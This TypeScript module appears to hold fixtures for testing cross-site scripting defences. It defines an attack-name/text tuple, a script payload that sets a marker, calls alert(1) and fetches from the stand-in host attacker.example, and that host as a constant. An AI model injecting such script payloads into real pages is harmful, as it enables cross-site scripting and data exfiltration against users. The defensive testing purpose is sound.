/** What it is, and the text as a model sends it. */
export type Attack = readonly [name: string, text: string];

/** What every script here would do, were it to run: leave a mark, open a dialog, call home. */
export const RUN = "window.__pwned=(window.__pwned||0)+1;alert(1);fetch('//attacker.example/x')";

/** A host that nothing may ever be asked of. */
export const HOME = "https://attacker.example";
